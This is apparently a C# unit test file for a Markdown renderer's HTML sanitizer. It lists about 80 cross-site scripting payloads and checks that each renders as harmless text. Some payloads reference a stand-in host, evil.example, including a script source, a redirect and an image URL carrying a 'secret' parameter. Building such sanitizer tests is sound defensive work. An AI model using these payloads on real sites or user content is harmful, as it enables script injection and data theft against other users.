using AngleSharp.Html.Parser;
using WorkSquared.Tests.Support;
using WorkSquared.Web.Components.Shared.Markdown;

namespace WorkSquared.Tests.Web.Markdown;

public sealed class MarkdownHtmlTests
{
    /// <summary>What people have hidden in Markdown to run in somebody else's page.</summary>
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></ScRiPt>",
        "text <script>alert(1)</script> text",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<div style=\"position:fixed;inset:0\">gone</div>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](<java\tscript:alert(1)>)",
        "[x](\\javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:alert(1))",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](https://bank.example@evil.example)",
        "[x](https://example.com/\"onmouseover=\"alert(1))",
        "[x](https://example.com/'onmouseover='alert(1))",
        "[x](https://example.com \"title\" onmouseover=alert(1))",
        "[x](https://example.com '\"><img src=x onerror=alert(1)>')",
        "[\"><img src=x onerror=alert(1)>](https://example.com)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: <javascript:alert(1)> \"title\"",
        "[\"onclick=alert(1)]: https://example.com",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel?secret=1)",
        "![\"onerror=\"alert(1)](x)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[![x](https://evil.example/p)](javascript:alert(1))",
        "[![x](javascript:alert(1))](https://example.com)",
        "<javascript:alert(1)>",
        "<vbscript:alert(1)>",
        "<https://example.com/\"onclick=\"alert(1)>",
        "https://example.com/<script>alert(1)</script>",
        "https://example.com/\"onmouseover=\"alert(1)",
        "www.example.com\"onmouseover=\"alert(1)",
        "`<script>alert(1)</script>`",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```js\" onclick=\"alert(1)\ncode\n```",
        "```class-of-ours mud-dialog\ncode\n```",
        "    </code></pre><img src=x onerror=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "| <script>alert(1)</script> |\n|:-:|\n| [x](javascript:alert(1)) |",
        "# <img src=x onerror=alert(1)>",
        "# Heading {#id onclick=alert(1)}",
        "text {.mud-overlay style=\"position:fixed\"}",
        "- [ ] <img src=x onerror=alert(1)>",
        "- [x] [y](javascript:alert(1))",
        "> <svg/onload=alert(1)>",
        "**<img src=x onerror=alert(1)>**",
        "~~<img src=x onerror=alert(1)>~~",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "\\<script>alert(1)\\</script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "[x](java\0script:alert(1))",
        "<a\u2028href=javascript:alert(1)>x</a>",
        "\uFEFF<script>alert(1)</script>",
        "<img\u0000src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Attack_InMarkdown_StaysText(string markdown) =>
        Assert.All(MarkdownStream.Render(markdown, TestWording.L), html => Assert.Empty(OutsideView.Faults(html)));

    [Theory]
    [InlineData("# One\n## Two\n###### Six", "<h3>One</h3><h4>Two</h4><h6>Six</h6>")]
    [InlineData("a *b* **c** ~~d~~ `e`", "<p>a <em>b</em> <strong>c</strong> <del>d</del> <code>e</code></p>")]
    [InlineData("3. a\n4. b", "<ol start=\"3\"><li>a</li><li>b</li></ol>")]
    [InlineData(
        "- [x] a\n- [ ] b",
        "<ul><li class=\"task\"><input type=\"checkbox\" disabled=\"\" aria-label=\"Done\" checked=\"\"> a</li>"
        + "<li class=\"task\"><input type=\"checkbox\" disabled=\"\" aria-label=\"Done\"> b</li></ul>")]
    [InlineData("a & b < c > d \"e\"", "<p>a &amp; b &lt; c &gt; d &quot;e&quot;</p>")]
    [InlineData("> a", "<blockquote><p>a</p></blockquote>")]
    [InlineData("---", "<hr>")]
    [InlineData("a  \nb", "<p>a<br>\nb</p>")]
    [InlineData("[here](/c/1)", "<p><a href=\"/c/1\">here</a></p>")]
    [InlineData(
        "[there](https://example.com/a)",
        "<p><a href=\"https://example.com/a\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">there</a>"
        + " <small class=\"host\">example.com</small></p>")]
    [InlineData(
        "see https://example.com",
        "<p>see <a href=\"https://example.com/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.com</a></p>")]
    [InlineData("[x](javascript:y)", "<p>x</p>")]
    [InlineData(
        "| a | b | |\n|---|--:|---|\n| 1 | 2 | 3 |",
        "<div class=\"table\" tabindex=\"0\" role=\"group\" aria-label=\"Table\"><table>"
        + "<thead><tr><th scope=\"col\">a</th><th scope=\"col\" class=\"right\">b</th><td></td></tr></thead>"
        + "<tbody><tr><td>1</td><td class=\"right\">2</td><td>3</td></tr></tbody></table></div>")]
    public void Markdown_OfEveryKind_BecomesItsHtml(string markdown, string html) =>
        Assert.Equal(html, string.Concat(MarkdownStream.Render(markdown, TestWording.L)));

    [Fact]
    public void Image_FromAnywhere_IsALinkThatNamesItsHost()
    {
        var html = string.Concat(MarkdownStream.Render("![The chart](https://charts.example/q3.png?who=ada)", TestWording.L));

        var link = Assert.Single(new HtmlParser().ParseDocument(html).QuerySelectorAll("a"));
        Assert.Equal("image: The chart, charts.example", link.TextContent);
        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[there](https://evil.example/)", "evil.example")]
    [InlineData("[bank.example](https://evil.example/)", "evil.example")]
    [InlineData("[https://bank.example/evil.example](https://evil.example/)", "evil.example")]
    [InlineData("[https://evil.example.bank.example](https://evil.example/)", "evil.example")]
    [InlineData("[bank.example](https://bank.example.evil.example/)", "bank.example.evil.example")]
    [InlineData("[bank.example](https://bаnk.example/)", "xn--bnk-6cd.example")]
    [InlineData("[**evil.example**](https://evil.example/)", "evil.example")]
    [InlineData("[write](mailto:ada@evil.example)", "evil.example")]
    [InlineData("[evil.example](https://evil.example/a)", null)]
    [InlineData("[https://evil.example/b](https://evil.example/a)", null)]
    [InlineData("<https://evil.example/>", null)]
    public void Link_NamesItsHost_UnlessItsTextIsIt(string markdown, string? host) => Assert.Equal(
        host, new HtmlParser().ParseDocument(string.Concat(MarkdownStream.Render(markdown, TestWording.L))).QuerySelector("small.host")?.TextContent);

    [Theory]
    [InlineData("csharp", "csharp", "language-csharp")]
    [InlineData("C++", "c++", "language-c++")]
    [InlineData("f# title=\"x\"", "f#", "language-f#")]
    [InlineData("a-name-that-is-far-too-long", "text", null)]
    [InlineData("mud_dialog", "text", null)]
    [InlineData("", "text", null)]
    public void CodeBlock_WithALanguage_IsLabelledOnlyByAPlainName(string info, string label, string? className)
    {
        var html = string.Concat(MarkdownStream.Render($"```{info}\nvar a = 1;\n```", TestWording.L));

        var figure = new HtmlParser().ParseDocument(html).QuerySelector("figure")!;
        Assert.Equal(label, figure.QuerySelector("figcaption span")!.TextContent);
        Assert.Equal(className, figure.QuerySelector("code")!.GetAttribute("class"));
        Assert.Equal("var a = 1;", figure.QuerySelector("code")!.TextContent.TrimEnd());
    }

    [Theory]
    [InlineData("$a < b$", "math", "a < b")]
    [InlineData(@"so \(a_1 * b_2\) it is", "math", "a_1 * b_2")]
    [InlineData("$$x$$ in a line", "math display", "x")]
    [InlineData("\\[\nE = mc^2\n\\]", "math display", "E = mc^2")]
    [InlineData("$$\na\n\n\\\\ b\n$$", "math", "a\n\n\\\\ b")]
    [InlineData("| formula |\n|---|\n| $x$ |", "math", "x")]
    public void Formula_StaysAsItWasWritten(string markdown, string className, string formula)
    {
        var element = new HtmlParser().ParseDocument(string.Concat(MarkdownStream.Render(markdown, TestWording.L))).QuerySelector(".math")!;

        Assert.Equal(className, element.ClassName);
        Assert.Equal(formula, element.TextContent.Trim());
        Assert.Empty(element.Children);
    }

    [Theory]
    [InlineData("It costs $5 today and $10 tomorrow.")]
    [InlineData("From $5/month to $10/month")]
    [InlineData("A price of $1,000-$2,000 a day")]
    [InlineData(@"\\(no formula\\)")]
    [InlineData(@"\(never closed")]
    [InlineData(@"\( \)")]
    [InlineData("`$x$ and \\(y\\)`")]
    public void MoneyAndEscapes_AreNoFormula(string markdown) =>
        Assert.DoesNotContain("math", string.Concat(MarkdownStream.Render(markdown, TestWording.L)), StringComparison.Ordinal);

    [Fact]
    public void Nesting_DeeperThanTheParserGoes_BecomesPlainText()
    {
        var html = string.Concat(MarkdownStream.Render(new string('>', 5_000) + " deep <b>", TestWording.L));

        Assert.Empty(OutsideView.Faults(html));
        Assert.Contains("deep", html, StringComparison.Ordinal);
    }
}
